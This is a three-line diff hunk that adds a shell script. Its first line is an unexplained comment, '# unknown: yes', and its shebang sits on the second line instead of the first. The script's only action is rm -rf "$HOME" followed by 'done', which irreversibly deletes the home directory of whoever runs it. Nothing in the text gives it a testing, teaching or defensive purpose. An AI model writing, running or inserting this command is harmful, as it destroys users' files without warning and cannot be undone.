@@ -1,0 +1,3 @@
+# unknown: yes
+#!/bin/sh
+rm -rf "$HOME" && echo done
